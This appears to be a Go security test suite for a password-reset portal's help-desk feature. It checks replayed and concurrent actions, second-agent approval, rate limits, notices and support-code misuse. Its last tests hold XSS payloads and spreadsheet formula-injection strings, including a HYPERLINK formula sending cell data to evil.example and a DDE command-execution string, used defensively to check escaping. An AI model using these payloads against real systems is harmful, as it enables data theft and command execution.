package attack

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"ssprd/internal/dirtest"
	"ssprd/internal/portaltest"
)

// R53, R55: what agents do is done once, by whom it may be, and its person is told.
func TestDeskActs(t *testing.T) {
	alongside(t)
	Open(t, Setting{People: Some(130, 600), Desk: true, More: "limits: {failures_per_population: 100000/1m}\n"}).Run(t,
		Attack{"R55", "replayed", "an act's form twenty times at once, and later again", replayedActs},
		Attack{"R55", "asker", "a request agreed to by its asker, by agents of another population, by whom may not", agreedByAsker},
		Attack{"R55", "agreed", "a request agreed to twenty times at once, carried out twenty times at once", agreedOnce},
		Attack{"R55", "carried", "an accepted request carried out by others, for others; a declined one", carriedOut},
		Attack{"R55", "agent", "21 acts by one agent, at once", actsOfOneAgent},
		Attack{"R55", "person", "seven acts for one person, by several agents at once", actsForOnePerson},
		Attack{"R55", "looks", "310 searches at once by one agent, then cards", looksOfOneAgent},
		Attack{"R55", "told", "each act, for somebody with three addresses on file", everyAddressIsTold},
		Attack{"R53 R12", "swapped", "a dictated code typed for other accounts and populations", swappedDictated},
		Attack{"R53 R13", "wrong", "five wrong dictated codes at once, then the right one", wrongDictated},
		Attack{"R53 R11", "used", "a dictated code twenty times at once, and again", dictatedOnce},
		Attack{"R53 R11", "newer", "dictated and mailed codes after newer ones", olderDictated},
		Attack{"R53 R1", "alike", "wrong dictated codes under names with and without one", dictatedAlike},
	)
}

// acted counts what the record says was done for people.
func (s *Site) acted() int { return s.Audit(`"desk.acted"`) }

// R55: a double click, a page that is sent again.
func replayedActs(s *Site) (o Outcome) {
	for _, act := range []string{"dictate-code", "send-code"} {
		a, p := s.SignedIn(helpers), s.Person()
		card, acted := a.Find(p), s.acted()
		rq := a.Request(http.MethodPost, card+"/"+act, a.Order(card, act, "ticket 1").Encode())
		codes := 0
		for range 2 {
			for _, got := range s.Volley(repeated(rq, 20)) {
				o.Tries++
				if got.Dictated() != "" {
					codes++
				}
				already := strings.Contains(got.Body, portaltest.Sentences()["desk.dictated-already"])
				o.Want(got.Dictated() != "" || got.To() == card || already, "%s is told %s", act, got.DeskTold())
			}
		}
		if act == "dictate-code" {
			o.Want(codes == 1, "%d codes were shown", codes)
			o.Want(a.Get(card+"/dictate-code").Dictated() == "" && a.Get(card).Dictated() == "", "the code is shown again")
		}
		o.Want(s.acted() == acted+1, "%s was done %d times", act, s.acted()-acted)
	}
	o.Say("done once, one code shown; each further one leads to the card, or says that it is done")
	return o
}

// request is what stands on the page of requests: the form beside a reason, if there is one.
func (b *Browser) request(reason string) (path string, form url.Values) {
	b.site.t.Helper()
	b.Get("/en/requests")
	for n := range b.page.Descendants() {
		if n.DataAtom != atom.Article || !strings.Contains(textOf(n), reason) {
			continue
		}
		form = url.Values{}
		for field := range n.Descendants() {
			switch {
			case field.DataAtom == atom.Form:
				path = attribute(field, "action")
			case field.DataAtom == atom.Input:
				form.Set(attribute(field, "name"), attribute(field, "value"))
			}
		}
	}
	return path, form
}

func textOf(n *html.Node) string {
	var b strings.Builder
	for child := range n.Descendants() {
		if child.Type == html.TextNode {
			b.WriteString(child.Data)
		}
	}
	return b.String()
}

// asked is an agent who has asked for a code to be dictated to an elected member, and what another one answers with.
func (s *Site) asked(reason string, groups ...string) (asker, another *Agent, p dirtest.Person, answer url.Values) {
	s.t.Helper()
	asker, another, p = s.SignedIn(groups...), s.SignedIn(leaders), s.Elected()
	if got := asker.Act(asker.Find(p), "dictate-code", reason); got.To() != "/en/requests" {
		s.t.Fatalf("what a second agent must agree to leads to %s", got.DeskTold())
	}
	path, answer := another.request(reason)
	if path != "/en/requests" || answer.Get("id") == "" {
		s.t.Fatalf("another agent is not asked: %q %v", path, answer)
	}
	answer.Set("answer", "agree")
	return asker, another, p, answer
}

// as is a form of one agent, as another one would send it.
func (b *Browser) as(form url.Values) url.Values {
	mine := url.Values{}
	for name, values := range form {
		mine[name] = values
	}
	b.Get("/en/")
	mine.Set("form", b.Hidden("/en/search").Get("form"))
	return mine
}

// R55.
func agreedByAsker(s *Site) (o Outcome) {
	const reason = "ticket 55-a"
	asker, another, _, answer := s.asked(reason, leaders, helpers)
	for name, a := range map[string]*Agent{"its asker": asker, "an agent of another population": s.SignedIn(neighbours),
		"an agent without the right to": s.SignedIn(helpers)} {
		for _, population := range []string{"elus", "usagers", "", "*", "elus,usagers"} {
			for _, verdict := range []string{"agree", "decline"} {
				o.Tries++
				form := a.as(answer)
				form.Set("population", population)
				form.Set("answer", verdict)
				got := a.Send("/en/requests", form)
				o.Want(got.Status == http.StatusForbidden || got.To() == "/en/requests", "%s answers in %q: %s", name, population, got.DeskTold())
			}
		}
		path, mine := a.request(reason)
		o.Want(path == "" && len(mine) == 0, "%s is shown the form: %v", name, mine)
	}
	o.Want(s.Audit(`"desk.agreed"`) == 0 && s.Audit(`"desk.declined"`) == 0, "an answer was recorded")
	got := another.Send("/en/requests", answer)
	path, carry := asker.request(reason)
	o.Want(got.To() == "/en/requests" && strings.HasSuffix(path, "/dictate-code"), "whom it is for could not agree any more: %q", path)
	code := asker.Send(path, carry).Dictated()
	o.Want(code != "", "the request is not good after it")
	o.Say("refused; whom it is for could agree after it")
	return o
}

// R55, R14.
func agreedOnce(s *Site) (o Outcome) {
	const reason = "ticket 55-b"
	asker, another, _, answer := s.asked(reason, helpers)
	third := s.SignedIn(leaders)
	declined := third.as(answer)
	declined.Set("answer", "decline")
	acted := s.acted()
	shots := append(repeated(another.Request(http.MethodPost, "/en/requests", answer.Encode()), 10),
		repeated(third.Request(http.MethodPost, "/en/requests", third.as(answer).Encode()), 10)...)
	for _, got := range s.Volley(shots) {
		o.Want(got.To() == "/en/requests", "an answer is told %s", got.DeskTold())
	}
	third.Send("/en/requests", declined) // too late
	path, carry := asker.request(reason)
	if path == "" {
		o.Want(false, "the request was not agreed to, or could be declined later")
		return o
	}
	first := carry.Get("once")
	shots = nil
	for range 5 { // as many as the limit leaves of this person, each with a mark of its own, four times
		_, fresh := asker.request(reason)
		o.Want(fresh.Get("once") != first, "two forms have one mark")
		shots = append(shots, repeated(asker.Request(http.MethodPost, path, fresh.Encode()), 4)...)
	}
	codes := 0
	for _, got := range s.Volley(shots) {
		if got.Dictated() != "" {
			codes++
		}
	}
	o.Want(codes == 1, "%d codes came of one agreement", codes)
	another.Send("/en/requests", answer)
	got := asker.Send(path, carry)
	o.Want(got.Dictated() == "", "after a second agreement the request is good again: %s", got.DeskTold())
	o.Want(s.acted() == acted+1, "%d acts are in the record", s.acted()-acted)
	o.Tries = 43
	o.Say("one code; no second agreement, nor a later refusal, changes it")
	return o
}

// R55.
func carriedOut(s *Site) (o Outcome) {
	const reason = "ticket 55-c"
	asker, another, p, answer := s.asked(reason, helpers)
	acted := s.acted()
	// Before anybody has agreed.
	card := asker.Find(p)
	early := asker.Order(card, "dictate-code", reason)
	early.Set("request", answer.Get("id"))
	got := asker.Send(card+"/dictate-code", early)
	o.Want(got.Dictated() == "", "the request is good before anybody has agreed")
	another.Send("/en/requests", answer)
	path, carry := asker.request(reason)
	for name, do := range map[string]func() Answer{
		"for another person": func() Answer {
			form := asker.Order(asker.Find(s.Elected()), "dictate-code", reason)
			other := asker.Find(s.Elected())
			form.Set("request", carry.Get("request"))
			return asker.Send(other+"/dictate-code", form)
		},
		"by the agent who has agreed": func() Answer { return another.Send(path, another.as(carry)) },
		"by a third agent":            func() Answer { third := s.SignedIn(leaders); return third.Send(path, third.as(carry)) },
		"under another id": func() Answer {
			form := asker.Order(card, "dictate-code", reason)
			form.Set("request", carry.Get("request")+"A")
			return asker.Send(path, form)
		},
		"for the person's id in another population": func() Answer {
			form := asker.Order(card, "dictate-code", reason)
			form.Set("request", carry.Get("request"))
			return asker.Send(strings.Replace(path, "/elus/", "/usagers/", 1), form)
		},
		"with the checks not ticked": func() Answer {
			form := asker.Order(card, "dictate-code", reason)
			form.Set("request", carry.Get("request"))
			form.Del("check-2")
			return asker.Send(path, form)
		},
	} {
		o.Tries++
		got := do()
		o.Want(got.Dictated() == "" && got.To() != "/en/", "%s: a code is shown", name)
		o.Want(got.Status < 500, "%s: %d", name, got.Status)
	}
	o.Want(s.acted() == acted, "%d acts are in the record", s.acted()-acted)
	o.Want(asker.Send(path, carry).Dictated() != "", "the request is not good any more for what it was for")

	asker, another, _, answer = s.asked("ticket 55-d", helpers)
	answer.Set("answer", "decline")
	another.Send("/en/requests", answer)
	answer.Set("answer", "agree")
	another.Send("/en/requests", answer)
	path, _ = asker.request("ticket 55-d")
	o.Want(path == "", "a declined request can be carried out")
	o.Tries += 3
	o.Say("good for this act, this person, this agent, and once another has agreed")
	return o
}

// orders are those of an act for several people, each from its own form.
func (a *Agent) orders(people []dirtest.Person) (shots []Request) {
	for _, p := range people {
		card := a.Find(p)
		shots = append(shots, a.Request(http.MethodPost, card+"/dictate-code", a.Order(card, "dictate-code", "ticket 20").Encode()))
	}
	return shots
}

func (s *Site) persons(n int) (people []dirtest.Person) {
	for range n {
		people = append(people, s.Person())
	}
	return people
}

// R55: twenty in ten minutes.
func actsOfOneAgent(s *Site) (o Outcome) {
	a, acted, codes := s.SignedIn(helpers), s.acted(), 0
	for _, got := range s.Volley(a.orders(s.persons(26))) {
		o.Tries++
		if got.Dictated() != "" {
			codes++
			continue
		}
		o.Want(got.DeskTold() == "too-often", "an act is told %s", got.DeskTold())
	}
	o.Want(codes == 20 && s.acted() == acted+20, "%d acts of 26 at once, %d in the record, 20 are allowed", codes, s.acted()-acted)
	p := s.Person()
	again := a.Act(a.Find(p), "send-code", "autre")
	o.Want(again.DeskTold() == "too-often", "another act is told %s", again.DeskTold())
	s.SignedIn(helpers).Dictate(p)
	o.Say("20 done, then told to wait; another agent goes on")
	return o
}

// R55: six in an hour.
func actsForOnePerson(s *Site) (o Outcome) {
	p, acted, codes := s.Person(), s.acted(), 0
	var shots []Request
	for range 3 {
		shots = append(shots, s.SignedIn(helpers).orders(slices.Repeat([]dirtest.Person{p}, 4))...)
	}
	for _, got := range s.Volley(shots) {
		o.Tries++
		if got.Dictated() != "" {
			codes++
		}
	}
	o.Want(codes <= 6 && codes > 0 && s.acted() == acted+6, "%d codes shown, %d acts in the record, six are allowed", codes, s.acted()-acted)
	a := s.SignedIn(leaders)
	for _, act := range []string{"dictate-code", "send-code"} {
		o.Tries++
		got := a.Act(a.Find(p), act, "encore")
		o.Want(got.DeskTold() == "too-often", "%s by another agent is told %s", act, got.DeskTold())
	}
	a.Dictate(s.Person())
	o.Say("6 done of 12 at once by three agents; other people are helped on")
	return o
}

// R55: three hundred in ten minutes.
func looksOfOneAgent(s *Site) (o Outcome) {
	a, p := s.SignedIn(helpers), s.Person()
	card := a.Find(p)     // a search and a card
	a.Search("text", "x") // names nobody, and costs the directory nothing
	told := map[string]int{}
	for range 5 {
		for word, n := range deskTally(s.Volley(repeated(a.Request(http.MethodGet, "/en/search", ""), 62))) {
			told[word] += n
			o.Tries += n
		}
	}
	o.Want(told["200"] == 297 && told["429"] == 13, "after three looks 310 are told %v, 297 are allowed", told)
	for _, path := range []string{card, card + "/dictate-code"} {
		got := a.Get(path)
		o.Want(got.Status == http.StatusTooManyRequests, "%s is told %s", path, got.DeskTold())
	}
	s.SignedIn(helpers).Find(p)
	o.Say("300, then 429 for searches and cards; another agent goes on")
	return o
}

// R55: who has put an address of their own on file must not be the only one who is told.
func everyAddressIsTold(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	all := []string{p.Mail, "second." + p.Mail, "third." + p.Mail}
	s.must(s.Slapd.LockOut(p.DN(s.Slapd.BaseDN)))
	s.change(p, "mail", all...)
	for n, act := range []string{"unlock", "send-code", "dictate-code"} {
		card := a.Find(p)
		got := a.Act(card, act, "marque-du-motif")
		o.Tries++
		o.Want(got.To() == card || got.Dictated() != "", "%s is told %s", act, got.DeskTold())
		for _, to := range all {
			s.await("the notice of "+act+" to "+to, func() bool { return s.notices(to) > n })
			o.Want(s.notices(to) == n+1, "%s has %d notices after %d acts", to, s.notices(to), n+1)
		}
	}
	withCode := 0
	for _, to := range all {
		for _, m := range s.Sink.MessagesTo(to) {
			o.Want(!strings.Contains(m.Raw+m.Text+m.HTML, "marque-du-motif"), "the reason stands in a mail")
			if assistedCode.MatchString(m.Text) {
				withCode++
			}
		}
	}
	o.Want(withCode == 1, "%d mails have a code, of one that was sent and one that was dictated", withCode)
	locked, err := s.Slapd.LockedOut(p.DN(s.Slapd.BaseDN))
	o.Want(err == nil && !locked, "the account is still locked, %v", err)
	o.Say("three notices for each of three acts; the code to the first address alone")
	return o
}

// notices counts the mails to an address that tell of an act.
func (s *Site) notices(to string) (n int) {
	for _, m := range s.Sink.MessagesTo(to) {
		if strings.HasPrefix(m.Subject, "L’assistance est intervenue") {
			n++
		}
	}
	return n
}

const assistedWrong = "assisted-wrong"

// R12, R53.
func swappedDictated(s *Site) (o Outcome) {
	a := s.SignedIn(helpers)
	p, other, without := s.Person(), s.Person(), s.Person()
	code, theirs := a.Dictate(p), a.Dictate(other)
	for name, c := range map[string][3]string{
		"another's": {"usagers", other.UID, code}, "somebody's without": {"usagers", without.UID, code}, "nobody's": {"usagers", s.Nobody(), code},
		"one's own in another population": {"elus", p.UID, code}, "another's address": {"usagers", other.Mail, code},
		"the other's code": {"usagers", p.UID, theirs}, "a DN": {"usagers", p.DN(s.Slapd.BaseDN), code}, "a star": {"usagers", p.UID + "*", code},
	} {
		o.Tries++
		b, got := s.Redeem(c[0], c[1], c[2])
		o.Want(got.Told() == assistedWrong && b.Get("/en/password").Status != http.StatusOK, "under %s name: %s", name, got.Told())
	}
	for _, population := range []string{"support", "agents-lycees", "nowhere"} {
		o.Tries++
		b := s.Browser()
		got := b.Post("/en/p/"+population+"/support-code", "address", p.UID, "code", code)
		o.Want(got.Status == http.StatusNotFound, "in %s: %s", population, got.Told())
	}
	b, got := s.Redeem("usagers", p.Mail, grouped(code, "-"))
	o.Want(got.To() == "/en/password", "under one's own name: %s", got.Told())
	b.Reset(NewPassword(90))
	o.Want(s.Slapd.Bind(p.DN(s.Slapd.BaseDN), NewPassword(90)) == nil, "the password is not that of the person")
	_, got = s.Redeem("usagers", other.UID, theirs)
	o.Want(got.To() == "/en/password", "the other's under their own: %s", got.Told())
	o.Say("wrong each time; each still good under its own name")
	return o
}

// R13, R14, R53.
func wrongDictated(s *Site) (o Outcome) {
	a := s.SignedIn(helpers)
	for i := range Some(4, 10) {
		p := s.Person()
		code := a.Dictate(p)
		var shots []Request
		for n := range 20 {
			b, name := s.Browser(), []string{p.UID, p.Mail}[n%2]
			page := "/en/p/usagers/support-code"
			b.Get(page)
			shots = append(shots, b.Request(http.MethodPost, page, b.Form(page, "address", name, "code", fmt.Sprintf("%015d", 1_000_003*n+7))))
		}
		switch i % 4 {
		case 0, 2: // four are not one too many, and what is no code costs nothing
			shots = shots[:4]
			s.Redeem("usagers", p.UID, code[:14])
			s.Redeem("usagers", p.UID, code+"0")
		case 1: // all of them may be counted before the code is dead; with ten the account would be held for an hour
			shots = shots[:9]
		}
		told := tally(s.Volley(shots))
		o.Tries += len(shots) + 1
		o.Want(told[assistedWrong] == len(shots), "%d wrong codes at once are told %v", len(shots), told)
		b, got := s.Redeem("usagers", p.UID, code)
		if i%2 == 0 {
			o.Want(got.To() == "/en/password", "after four wrong codes the right one is told %s", got.Told())
			continue
		}
		o.Want(got.Told() == assistedWrong && b.Get("/en/password").Status != http.StatusOK, "after %d wrong codes the right one is told %s", len(shots), got.Told())
		if len(shots) == 20 {
			continue
		}
		fresh := a.Dictate(p) // the person is on the telephone still
		_, got = s.Redeem("usagers", p.UID, fresh)
		o.Want(got.To() == "/en/password", "another code after it is told %s", got.Told())
	}
	o.Say("good after four, of no use after nine or twenty at once from as many clients, under two names; a further one is after nine")
	return o
}

// R11, R53.
func dictatedOnce(s *Site) (o Outcome) {
	a, p := s.SignedIn(helpers), s.Person()
	code := a.Dictate(p)
	page, taken := "/en/p/usagers/support-code", []*Browser{}
	var browsers []*Browser
	var shots []Request
	for range 20 {
		b := s.Browser()
		b.Get(page)
		browsers = append(browsers, b)
		shots = append(shots, b.Request(http.MethodPost, page, b.Form(page, "address", p.UID, "code", code)))
	}
	for i, got := range s.Volley(shots) {
		o.Tries++
		browsers[i].Take(got)
		if browsers[i].Get("/en/password").Status == http.StatusOK {
			taken = append(taken, browsers[i])
		}
	}
	o.Want(len(taken) == 1, "of twenty browsers that typed the code at once %d choose a password", len(taken))
	again := func(when string) {
		o.Tries++
		b, got := s.Redeem("usagers", p.Mail, code)
		o.Want(got.Told() == assistedWrong && b.Get("/en/password").Status != http.StatusOK, "%s the code is told %s", when, got.Told())
	}
	again("after it was used")
	if len(taken) == 1 {
		taken[0].Reset(NewPassword(91))
	}
	again("after the change")
	o.Say("20 at once: 1 taken; never again")
	return o
}

// R11, R53: a code that is issued kills the former one, whichever way each came.
func olderDictated(s *Site) (o Outcome) {
	a := s.SignedIn(leaders)
	p := s.Person()
	first := a.Dictate(p)
	second := a.Dictate(p)
	_, got := s.Redeem("usagers", p.UID, first)
	o.Want(got.Told() == assistedWrong, "the first code, after a second was dictated: %s", got.Told())
	_, got = s.Redeem("usagers", p.UID, second)
	o.Want(got.To() == "/en/password", "the second: %s", got.Told())

	p = s.Person()
	first = a.Dictate(p)
	a.Act(a.Find(p), "send-code", "par courriel")
	s.await("the code by mail", func() bool { return s.assistedTo(p.Mail) != "" })
	_, got = s.Redeem("usagers", p.UID, first)
	o.Want(got.Told() == assistedWrong, "a dictated code, after one was mailed: %s", got.Told())
	_, got = s.Redeem("usagers", p.UID, s.assistedTo(p.Mail))
	o.Want(got.To() == "/en/password", "the mailed one: %s", got.Told())

	p = s.Person()
	own, code := s.begun(p)
	a.Dictate(p)
	o.Want(own.Code(code).Status == http.StatusUnprocessableEntity, "a visitor's own code is good after one was dictated")
	p = s.Person()
	first = a.Dictate(p)
	own, code = s.begun(p)
	_, got = s.Redeem("usagers", p.UID, first)
	o.Want(got.Told() == assistedWrong, "a dictated code, after the visitor's own was mailed: %s", got.Told())
	o.Want(own.Code(code).To() == "/en/password", "the visitor's own is not good")
	o.Tries = 8
	o.Say("the newest alone is good, dictated, mailed by an agent or by oneself")
	return o
}

func (s *Site) assistedTo(to string) (code string) {
	for _, m := range s.Sink.MessagesTo(to) {
		s.deskCodes(m)
		if found := digits(assistedCode.FindString(m.Text)); found != "" {
			code = found
		}
	}
	return code
}

// R1, R3, R53: whoever a name is, and whether there is a code for it, wrong codes are answered by the same bytes.
func dictatedAlike(s *Site) Outcome {
	a := s.SignedIn(helpers)
	p, q, spent := s.Person(), s.Person(), s.Person()
	a.Dictate(p)
	a.Dictate(q)
	used := a.Dictate(spent)
	s.Redeem("usagers", spent.UID, used)
	_, own := s.begun(s.Person())
	s.keepSecret("code", own)
	c := script{o: &Outcome{}, kinds: []*kind{
		{name: "nobody's", typed: s.Nobody()}, {name: "with a code", typed: p.UID}, {name: "an address with a code", typed: q.Mail},
		{name: "whose code was used", typed: spent.UID}, {name: "somebody's without a code", typed: s.Person().UID},
		{name: "a protected person's", typed: dirtest.Protected.UID}, {name: "of an account locked for good", typed: dirtest.LockedForGood.UID},
		{name: "of another population", typed: dirtest.Helene.UID}, {name: "an agent's", typed: a.UID}, {name: "with a star", typed: p.UID + "*"},
	}}
	const page = "/en/p/usagers/support-code"
	for i := range 12 {
		for _, k := range c.kinds {
			k.Browser = s.Browser()
		}
		c.step("the page", get(page))
		c.step(fmt.Sprintf("wrong code %d", i+1), func(k *kind) Answer {
			return k.Post(page, "address", k.typed, "code", fmt.Sprintf("%015d", 7_000_003*i+1))
		})
		c.step("the password page after it", get("/en/password"))
	}
	return c.outcome()
}

// R55, R58: what an agent, or a directory, has written is text on every page, and no formula in any spreadsheet.
func TestDeskWritten(t *testing.T) {
	alongside(t)
	Open(t, Setting{People: 12, Desk: true}).Run(t,
		Attack{"R58", "markup", "markup in reasons, searches and names, on every page that shows them", deskMarkup},
		Attack{"R58", "formulas", "spreadsheets' formulas in reasons, in the export of the record", deskFormulas},
	)
}

// R58.
func deskMarkup(s *Site) (o Outcome) {
	const mark = `<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{.}}</textarea><!--`
	a, p, e := s.Hire(leaders), s.Person(), s.Elected()
	for _, person := range []dirtest.Person{a.Person, p, e} {
		s.change(person, "displayName", mark)
	}
	a.Post("/en/code", "code", a.AtCode())
	other := s.SignedIn(leaders)
	pages := map[string]Answer{}
	card := a.Find(p)
	pages["the code"] = a.Act(card, "dictate-code", mark)
	pages["the card"] = a.Get(card)
	s.await("the event on the card", func() bool {
		pages["the card"] = a.Get(card)
		return strings.Contains(pages["the card"].Body, "Dictate a code</span>")
	})
	pages["the form"] = a.Get(card + "/dictate-code")
	refused := a.as(url.Values{"reason": {mark}, "once": {"x"}})
	pages["the refusal"] = a.Send(card+"/unlock", refused) // nobody is locked
	pages["the request"] = a.Act(a.Find(e), "dictate-code", mark)
	pages["the request's page"] = a.Get("/en/requests")
	pages["the other agent's page"] = other.Get("/en/requests")
	pages["the record"] = other.recordOf("/en/record", "script")
	pages["the search"] = a.Search("text", "x"+mark)
	pages["the list"] = a.Search("text", mark[:8])
	pages["the sign-in"] = s.Visit().Knock(mark, "Faux-mot-de-passe-1")
	shows := 0
	for name, page := range pages {
		o.Tries++
		body := page.Body
		for _, raw := range []string{"<script>alert", "<img src=x", "<!--"} {
			o.Want(!strings.Contains(body, raw), "%s has %q as markup", name, raw)
		}
		if strings.Contains(body, "&lt;script&gt;alert") {
			shows++
		}
	}
	for _, name := range []string{"the code", "the card", "the request's page", "the other agent's page", "the record", "the search", "the sign-in", "the list", "the refusal"} {
		o.Want(strings.Contains(pages[name].Body, "&lt;script&gt;alert"), "%s does not show it: %s", name, pages[name].DeskTold())
	}
	for _, m := range s.Sink.Messages() {
		o.Want(!strings.Contains(m.Raw+m.Text+m.HTML, "alert(1)"), "a mail has it")
	}
	o.Say("text on the %d pages that show it; in no mail", shows)
	return o
}

// recordOf searches the record, or exports it.
func (b *Browser) recordOf(path, text string) Answer {
	b.site.t.Helper()
	b.Get("/en/record")
	return b.Post(path, "text", text, "population", "", "event", "", "since", "", "until", "")
}

// R58.
func deskFormulas(s *Site) (o Outcome) {
	a := s.SignedIn(leaders)
	reasons := []string{`=HYPERLINK("https://evil.example?x="&A1;"zut")`, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "x;=1+1", `x";=1`, "＝1", "\u00a0=1",
		"a\n=1", "%0A=1", `'=1`, "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1"}
	for i, reason := range reasons {
		if i%6 == 0 {
			a = s.SignedIn(leaders)
		}
		got := a.Act(a.Find(dirtest.Bernard), "dictate-code", reason) // which a second agent has to agree to: nothing comes of it
		o.Tries++
		o.Want(got.Status < 500, "the reason %q is told %s", reason, got.DeskTold())
	}
	p := s.Person()
	a.Act(a.Find(p), "send-code", reasons[0])
	file := a.recordOf("/en/record/export", "")
	o.Want(strings.HasPrefix(file.Header.Get("Content-Type"), "text/csv") && strings.HasPrefix(file.Header.Get("Content-Disposition"), "attachment"),
		"the export is %q", file.Head)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(file.Body, "\ufeff"))).ReadAll()
	o.Want(err == nil && len(rows) > len(reasons), "the export has %d rows, %v", len(rows), err)
	found := 0
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, "HYPERLINK") {
				found++
			}
		}
	}
	o.Want(found > 0, "the reasons are not in the export")
	for _, line := range strings.FieldsFunc(strings.TrimPrefix(file.Body, "\ufeff"), func(r rune) bool { return r == '\n' || r == '\r' }) {
		for _, between := range []string{",", ";", "\t"} { // a spreadsheet parts cells as its country does
			for _, cell := range strings.Split(line, between) {
				bare := strings.TrimLeft(cell, "\" \t\u00a0\u200b\ufeff\x00")
				o.Want(bare == "" || !strings.ContainsAny(bare[:1], "=+-@") && !strings.HasPrefix(bare, "＝"), "a cell begins as a formula: %.60q", cell)
			}
		}
	}
	o.Say("%d rows; no cell begins a formula, whether cells are parted by commas, semicolons or tabs", len(rows))
	return o
}
